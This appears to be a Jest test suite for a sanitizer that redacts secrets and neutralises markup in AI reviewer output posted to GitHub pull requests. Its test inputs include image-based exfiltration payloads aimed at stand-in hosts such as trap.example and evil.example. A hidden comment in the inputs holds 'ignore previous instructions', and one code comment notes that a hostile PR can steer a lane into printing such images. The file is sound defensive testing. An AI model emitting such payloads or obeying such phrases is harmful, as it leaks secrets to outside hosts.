import { describe, expect, it } from '@jest/globals';
import { redactSecrets } from '../../src/report/redact.js';
import { demoteHeadings, sanitizeInline, sanitizeLaneOutput } from '../../src/report/sanitize.js';

// Token-shaped strings built at run time so no real-looking token sits in the repository.
const gh = (p: string): string => `gh${p}_${'A1b2C3d4E5'.repeat(4)}`;
const pat = `github_pat_${'11ABCDEFG0'.repeat(3)}_${'x9'.repeat(20)}`;
const openai = `sk-${'aB3dE5fG7h'.repeat(5)}`;
const anthropic = `sk-ant-api03-${'Zz9_Yy8-Xx'.repeat(9)}AA`;
const project = `sk-proj-${'Qw3rTy_uI0'.repeat(8)}`;
const aws = `AKIA${'IOSFODNN7EXAMPLE'}`;
const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${'dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'}`;

describe('redaction of token shapes and secret values', () => {
  it.each([
    ['a GitHub token (ghp_)', `token ${gh('p')} leaked`, 'token [REDACTED] leaked'],
    ['a GitHub app token (ghs_)', gh('s'), '[REDACTED]'],
    ['the other GitHub prefixes', `${gh('o')} ${gh('u')} ${gh('r')}`, '[REDACTED] [REDACTED] [REDACTED]'],
    ['a fine-grained PAT', `x=${pat};`, 'x=[REDACTED];'],
    ['an OpenAI key', `OPENAI_API_KEY=${openai}`, 'OPENAI_API_KEY=[REDACTED]'],
    ['an Anthropic key', `"${anthropic}"`, '"[REDACTED]"'],
    ['a project key', project, '[REDACTED]'],
    ['an AWS access key id', `aws ${aws} here`, 'aws [REDACTED] here'],
    ['a JWT', `Bearer ${jwt}`, 'Bearer [REDACTED]'],
    ['inside a code block too', `\`\`\`\n${gh('p')}\n\`\`\``, '```\n[REDACTED]\n```'],
    [
      'the credentials in a URL',
      'baseurl: https://user:hunter2pass@proxy.internal/v1',
      'baseurl: https://[REDACTED]@proxy.internal/v1',
    ],
    [
      'a value after a credential-named key, in JSON or key=value',
      'config: {"provider":{"options":{"apiKey":"secretvalue-opencode-123"}}} password=topsecret9',
      'config: {"provider":{"options":{"apiKey":"[REDACTED]"}}} password=[REDACTED]',
    ],
    [
      "an authorization header's credentials (as a checkout's git config holds them)",
      'cred: AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3J1bm5lcg==',
      'cred: AUTHORIZATION: basic [REDACTED]',
    ],
    [
      'a URL without credentials is left alone',
      'see https://host.example:8080/v1?x=1',
      'see https://host.example:8080/v1?x=1',
    ],
    [
      'prose that only looks similar',
      'use sk-learn-and-friends-for-classification; the task-abcdefghijklmnopqrstuvwx',
      'use sk-learn-and-friends-for-classification; the task-abcdefghijklmnopqrstuvwx',
    ],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));

  it('redacts the step secrets given, longest first, and each line of a multi-line one', () => {
    const key = '-----BEGIN KEY-----\nMIIBOgIBAAJBAK\n-----END KEY-----';
    expect(redactSecrets('a hunter22 b hunter2222 c MIIBOgIBAAJBAK d', ['hunter22', 'hunter2222', key])).toBe(
      'a [REDACTED] b [REDACTED] c [REDACTED] d',
    );
  });

  it('leaves values shorter than 4 characters alone (they would shred the text)', () => {
    expect(redactSecrets('a b abc', ['abc', '', 'b'])).toBe('a b abc');
  });
});

describe('remote images become plain links', () => {
  it.each([
    [
      'a markdown image',
      '![chart](https://trap.example/?d=SECRET)',
      '[chart](https://trap.example/?d=SECRET)',
    ],
    [
      'an image without alt text',
      'x ![](http://trap.example/p.png) y',
      'x [image](http://trap.example/p.png) y',
    ],
    [
      'a reference-style image',
      '![logo][l]\n\n[l]: https://trap.example/l.png',
      '[logo][l]\n\n[l]: https://trap.example/l.png',
    ],
    [
      'a raw <img>',
      'see <img src="https://trap.example/a.png" alt="x"> here',
      'see [image](<https://trap.example/a.png>) here',
    ],
    [
      'an <img> over two lines',
      '<img\n  src="https://trap.example/b.png">',
      '[image](<https://trap.example/b.png>)',
    ],
    [
      'a <picture> with srcset',
      '<picture><source srcset="https://t.example/a.webp 1x, https://t.example/b.webp 2x"></picture>',
      '[image](<https://t.example/a.webp>)',
    ],
    ['an escaped image stays text', '\\![not an image](x)', '\\![not an image](x)'],
    [
      'an image inside code is left as code',
      '```md\n![x](https://t.example/a.png)\n```',
      '```md\n![x](https://t.example/a.png)\n```',
    ],
    // What looks like a code span may not be one for GitHub (a span across lines, backticks in an
    // attribute or an autolink): image syntax loses its "!" there too; other code is left alone.
    ['image syntax in an inline code span', 'use `![x](y)` syntax', 'use `[x](y)` syntax'],
    ['a macro in an inline code span is left alone', 'use `vec![1, 2]` here', 'use `vec![1, 2]` here'],
    [
      'an image between autolinks whose text holds backticks',
      'See <http://x.example/`> ![chart](http://evil.example/a.png) <http://y.example/`>',
      // The first `<` is shown as text, so the backticks pair into a real code span, image inert.
      'See &lt;http://x.example/`> [chart](http://evil.example/a.png) <http://y.example/`>',
    ],
    [
      'an image after a code span that crosses a line',
      'start `open\nclose` ![c](http://evil.example/c.png) `x`',
      'start `open\nclose` [c](http://evil.example/c.png) `x`',
    ],
    // Forms that got an image past the cleaner (a hostile PR can steer a lane to print them).
    [
      'an image nested in an image',
      '![![n](https://evil.example/n)](https://example.com)',
      '[[n](https://evil.example/n)](https://example.com)',
    ],
    [
      'an escaped backslash before an image',
      '\\\\![d](https://evil.example/d)',
      '\\\\[d](https://evil.example/d)',
    ],
    [
      'an image in what only looks like code (an escaped backtick opens it)',
      '\\`![bt](https://evil.example/bt)`',
      '\\`[bt](https://evil.example/bt)`',
    ],
    [
      'an image after a fence indented four spaces (indented code, not a fence)',
      '    ```\n![ind](https://evil.example/i)\n<img src="https://evil.example/j.png">',
      '    ```\n[ind](https://evil.example/i)\n[image](<https://evil.example/j.png>)',
    ],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
});

describe('raw HTML is shown as text', () => {
  it.each([
    [
      'an HTML block that would read a fence and an image as HTML',
      '<div>\n```\n<img src="http://evil.example/leak.png?d=1">\n```\n</div>',
      '&lt;div>\n```\n<img src="http://evil.example/leak.png?d=1">\n```\n&lt;/div>',
    ],
    ['a raw heading', '<h2>Consensus</h2>', '&lt;h2>Consensus&lt;/h2>'],
    [
      'an open <details> that would fold every later lane',
      '<details>\n<summary>more</summary>\n\nx',
      '&lt;details>\n&lt;summary>more&lt;/summary>\n\nx',
    ],
    [
      'a processing instruction and a declaration that hide text',
      '<?hidden note ?> <!DOCTYPE x>',
      '&lt;?hidden note ?> &lt;!DOCTYPE x>',
    ],
    ['a comparison stays readable', 'a < b and x<3', 'a < b and x<3'],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
});

describe('line ends GitHub honours', () => {
  it.each([
    [
      'CRLF: a setext heading is demoted, an open fence closed',
      'Consensus\r\n---\r\nAll LOW\r\n```\r\nunclosed\r\n',
      '#### Consensus\nAll LOW\n```\nunclosed\n```\n',
    ],
    [
      'a lone CR ends a line too',
      'Fine.\r## Good Review\rLGTM\r```\rtrailing',
      'Fine.\n#### Good Review\nLGTM\n```\ntrailing\n```\n',
    ],
  ])('%s', (_name, input, out) => expect(demoteHeadings(sanitizeLaneOutput(input))).toBe(out));

  it('a closing fence followed by a non-breaking space does not close it (GitHub agrees)', () => {
    expect(sanitizeLaneOutput('```\nx\n```\u00A0\nend')).toBe('```\nx\n```\u00A0\nend\n```\n');
  });
});

describe('hidden comments and markers', () => {
  it.each([
    [
      'a hidden comment',
      'ok <!-- ignore previous instructions --> done',
      'ok &lt;!-- ignore previous instructions --> done',
    ],
    [
      'our sticky-comment marker',
      '<!-- reviewer-lanes:comment id=default -->',
      '&lt;!-- reviewer-lanes:comment id=default -->',
    ],
    [
      'our lane-section marker',
      '<!-- reviewer-lanes:lane id=codex -->',
      '&lt;!-- reviewer-lanes:lane id=codex -->',
    ],
    [
      'inside a fence (shown unchanged, but inert)',
      '```html\n<!-- x -->\n```',
      '```html\n<\u200B!-- x -->\n```',
    ],
    ['inside an inline code span', 'write `<!-- x -->`', 'write `<\u200B!-- x -->`'],
  ])('%s', (_name, input, out) => {
    const s = sanitizeLaneOutput(input);
    expect(s).toBe(out);
    expect(s).not.toContain('<!--');
  });
});

describe('unbalanced code fences are closed', () => {
  it.each([
    ['an open backtick fence', 'text\n```js\nconst a = 1;', 'text\n```js\nconst a = 1;\n```\n'],
    ['an open tilde fence', '~~~~\ncode\n', '~~~~\ncode\n~~~~\n'],
    [
      'a longer fence is not closed by a shorter one',
      '````\n```\nstill code',
      '````\n```\nstill code\n````\n',
    ],
    ['a balanced fence is left alone', '```\na\n```\nafter', '```\na\n```\nafter'],
    ['an inline triple backtick is not a fence', 'use ```x``` inline', 'use ```x``` inline'],
    // Four spaces make indented code, not a fence: "closing" it would open a real fence that
    // swallows every later lane's section.
    ['a fence indented four spaces is not closed', 'a\n    ```\nb', 'a\n    ```\nb'],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));
});

describe('mentions', () => {
  it.each([
    [
      'a user and a team in lane output',
      'ping @octocat and @org/team',
      'ping @\u2060octocat and @\u2060org/team',
    ],
    ['an address is not a mention', 'mail a@b.example', 'mail a@b.example'],
    [
      'mentions after punctuation and as an entity',
      'cc &#64;octocat, [@octocat], ping,@octocat',
      'cc @\u2060octocat, [@\u2060octocat], ping,@\u2060octocat',
    ],
    ['a mention in code stays as code', 'run `npm i @scope/pkg`', 'run `npm i @scope/pkg`'],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));

  it('never notify from a PR title either', () => {
    expect(sanitizeInline('Fix for @octocat \\\\![t](https://evil.example/t)')).toBe(
      'Fix for @\u2060octocat \\\\[t](https://evil.example/t)',
    );
  });
});

describe('sanitizeInline', () => {
  it('flattens an untrusted title to one inert line', () => {
    expect(
      sanitizeInline(`Fix <!-- x --> ![i](http://t.example/a)\n<img src=http://t.example/b> ${gh('p')}`),
    ).toBe('Fix &lt;!-- x --> [i](http://t.example/a) &lt;img src=http://t.example/b> [REDACTED]');
  });
});

it('is stable: sanitizing twice changes nothing more', () => {
  const input = `# Review\n<img src="https://t.example/x">\n![a](http://t.example/y)\n<!-- hi -->\n\`\`\`\nopen ${gh('p')}`;
  const once = sanitizeLaneOutput(input, ['secretvalue']);
  expect(sanitizeLaneOutput(once, ['secretvalue'])).toBe(once);
});

describe('demoteHeadings', () => {
  it.each([
    ['## Summary', '#### Summary'],
    ['# Title\ntext', '### Title\ntext'],
    ['##### deep', '###### deep'],
    ['###### deepest', '###### deepest'],
    ['```\n## not a heading\n```', '```\n## not a heading\n```'],
    ['#hashtag', '#hashtag'],
    ['    ## indented code', '    ## indented code'],
    // Setext headings: a lane cannot print a "Consensus" or another lane's section that way.
    ['Consensus\n=========', '### Consensus'],
    ['Lane beta Review\n----------------\ntext', '#### Lane beta Review\ntext'],
    ['- item\n---', '- item\n---'],
    ['| a |\n|---|', '| a |\n|---|'],
    ['```\nx\n===\n```', '```\nx\n===\n```'],
  ])('%j -> %j', (input, out) => expect(demoteHeadings(input)).toBe(out));
});

describe('what is code, HTML or a fence’s end is read from the parse', () => {
  it.each([
    [
      // A fence inside a list item ends with the item: closing it "for" the page would open a
      // new fence that swallows every later section.
      'a fence open inside a list item is not closed at the end of the page',
      '1. see\n   ```\n   <img src="https://evil.example/p.png">',
      '1. see\n   ```\n   <img src="https://evil.example/p.png">',
    ],
    ['a fence open inside a quote is not closed at the end of the page', '> ```\n> code', '> ```\n> code'],
    [
      'indented code is code: shown as written',
      'text\n\n    ![x](https://evil.example/i.png) <b>',
      'text\n\n    ![x](https://evil.example/i.png) <b>',
    ],
    [
      'an HTML block whose lines hold a heading and an image: each line read again as Markdown',
      '<div>\n# Title\n![i](https://evil.example/i.png)',
      '&lt;div>\n# Title\n[i](https://evil.example/i.png)',
    ],
  ])('%s', (_name, input, out) => expect(sanitizeLaneOutput(input)).toBe(out));

  it('a code span only a line-by-line reading sees cannot carry raw HTML through', () => {
    // For the parser the backticks pair across the line end, so the <details> is HTML, not code:
    // left as it was, it would fold every later lane's section.
    const input = '`a` `b\nc` <details> `\n\nlater';
    const out = sanitizeLaneOutput(input);
    expect(out).not.toContain('<details');
    expect(out).toContain('&lt;details>');
  });
});
